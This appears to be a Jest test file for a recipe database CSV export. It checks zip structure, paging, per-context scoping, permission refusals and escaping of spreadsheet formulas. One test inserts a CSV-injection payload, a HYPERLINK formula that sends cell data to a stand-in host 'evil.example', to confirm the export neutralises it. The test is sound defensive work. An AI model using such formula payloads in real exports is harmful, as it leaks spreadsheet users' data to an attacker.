/** exportDatabase: a real zip (checked with Info-ZIP's unzip), streamed, of the caller context's catalogue tables as CSV with a README. */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { csvField } from '../../../src/server/api/recipes/databaseExport';
import { startTestServer, type TestServer } from '../helpers/testServer';

jest.setTimeout(120_000);

describe('database export', () => {
  let server: TestServer;
  let dir: string;
  beforeAll(async () => {
    server = await startTestServer({ contexts: ['nl', 'dk', 'es'] });
    dir = mkdtempSync(path.join(os.tmpdir(), 'export-test-'));
    await server.app.inject({
      method: 'POST',
      url: '/api/recipe/',
      headers: await server.auth('nutritionist'),
      payload: {
        name: 'Stamppot, "boerenkool", with sausage',
        recipeIngredients: [],
        preparationDetails: { servings: 4 },
        otherInfo: 'line one\nline two',
      },
    });
  });
  afterAll(async () => {
    await server?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function download(user: string) {
    const res = await server.app.inject({ method: 'GET', url: '/api/recipe/export', headers: await server.auth(user) });
    const file = path.join(dir, `${user}.zip`);
    if (res.statusCode === 200) writeFileSync(file, res.rawPayload);
    return { res, file };
  }

  it.each(['admin', 'exporter'])(
    'gives %s databases.zip with the catalogue tables of the context as CSV and a README',
    async (user) => {
      const { res, file } = await download(user);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/zip');
      expect(res.headers['content-disposition']).toBe('attachment; filename="databases.zip"');
      expect(execFileSync('unzip', ['-tq', file]).toString()).toMatch(/No errors detected/);
      const listing = execFileSync('unzip', ['-Z1', file]).toString().trim().split('\n');
      expect(listing).toEqual([
        'README.txt',
        ...[
          'recipe',
          'recipe_ingredient',
          'recipe_tag',
          'recipe_author',
          'ingredient',
          'unit',
          'ingredient_name_translation',
          'food_group',
          'ingredient_food_group',
          'food_restriction',
          'food_restriction_ingredient',
          'ingredient_group',
          'ingredient_group_translation',
          'ingredient_langual',
        ].map((t) => `nl/${t}.csv`),
      ]);
      // Accounts, settings and photo moderation are not part of the catalogue export.
      expect(listing).not.toContain('nl/setting.csv');
      expect(execFileSync('unzip', ['-p', file, 'README.txt']).toString()).toMatch(
        /nl\/food_restriction\.csv\n {4}Food restrictions; enabled means/,
      );
      const recipes = execFileSync('unzip', ['-p', file, 'nl/recipe.csv']).toString();
      expect(recipes.split('\r\n')[0]).toMatch(/^id,name,status,version,/);
      expect(recipes).toContain('"Stamppot, ""boerenkool"", with sausage"');
      expect(recipes).toContain('"line one\nline two"');
    },
  );

  it('reads every row of a table larger than one page, in key order', async () => {
    await server.db.transaction(
      (tx) => tx.query("INSERT INTO ingredient (name) SELECT 'Ingredient ' || g FROM generate_series(1, 2500) g"),
      { context: 'nl' },
    );
    await server.db.transaction(
      async (tx) => {
        await tx.query("INSERT INTO food_group (name) VALUES ('Group A'), ('Group B')");
        await tx.query(
          'INSERT INTO ingredient_food_group (ingredient_id, food_group_id) SELECT i.id, g.id FROM ingredient i CROSS JOIN food_group g',
        );
      },
      { context: 'nl' },
    );
    const { res, file } = await download('admin');
    expect(res.statusCode).toBe(200);
    const lines = execFileSync('unzip', ['-p', file, 'nl/ingredient.csv'], { maxBuffer: 64 * 1024 * 1024 })
      .toString()
      .trim()
      .split('\r\n');
    expect(lines).toHaveLength(2501);
    const ids = lines.slice(1).map((l) => Number(l.split(',')[0]));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(new Set(ids).size).toBe(2500);
    // A link table paged by its two-column key: every pair once.
    const links = execFileSync('unzip', ['-p', file, 'nl/ingredient_food_group.csv'], { maxBuffer: 64 * 1024 * 1024 })
      .toString()
      .trim()
      .split('\r\n');
    expect(links[0]).toBe('ingredient_id,food_group_id');
    expect(new Set(links.slice(1)).size).toBe(5000);
  });

  it('writes a recipe named like a formula so that a spreadsheet opens it as text (OWASP CSV injection)', async () => {
    const created = await server.app.inject({
      method: 'POST',
      url: '/api/recipe/',
      headers: await server.auth('nutritionist'),
      payload: {
        name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        recipeIngredients: [],
        preparationDetails: { servings: 2 },
        otherInfo: '@SUM(1+1)',
      },
    });
    expect(created.statusCode).toBe(200);
    const { res, file } = await download('admin');
    expect(res.statusCode).toBe(200);
    expect(execFileSync('unzip', ['-tq', file]).toString()).toMatch(/No errors detected/);
    const recipes = execFileSync('unzip', ['-p', file, 'nl/recipe.csv']).toString();
    expect(recipes).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(recipes).toContain(`,'@SUM(1+1),`);
    expect(recipes).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(execFileSync('unzip', ['-p', file, 'README.txt']).toString()).toContain(
      "leading ' so that spreadsheets show it as text",
    );
  });

  it('neutralises every formula start (=, +, -, @, tab, carriage return) but leaves numbers alone', () => {
    expect(['=1+2', '+1+2', '-2+3', '@A1', '\tx', '\rx'].map(csvField)).toEqual([
      "'=1+2",
      "'+1+2",
      "'-2+3",
      "'@A1",
      "'\tx",
      `"'\rx"`,
    ]);
    expect([-5, '-0.5', '+3', '-1e3', 'plain', '', null].map(csvField)).toEqual(['-5', '-0.5', '+3', '-1e3', 'plain', '', '']);
  });

  it('exports only the caller context', async () => {
    const { res, file } = await download('admin.dk');
    expect(res.statusCode).toBe(200);
    const listing = execFileSync('unzip', ['-Z1', file]).toString();
    expect(listing).toContain('dk/recipe.csv');
    expect(listing).not.toContain('nl/');
    expect(execFileSync('unzip', ['-p', file, 'dk/recipe.csv']).toString()).not.toContain('Stamppot');
  });

  it.each(['nutritionist', 'ambassador', 'user'])('refuses %s with 403', async (user) => {
    const { res } = await download(user);
    expect(res.statusCode).toBe(403);
    expect(res.json().code).toBe('FORBIDDEN');
  });
});
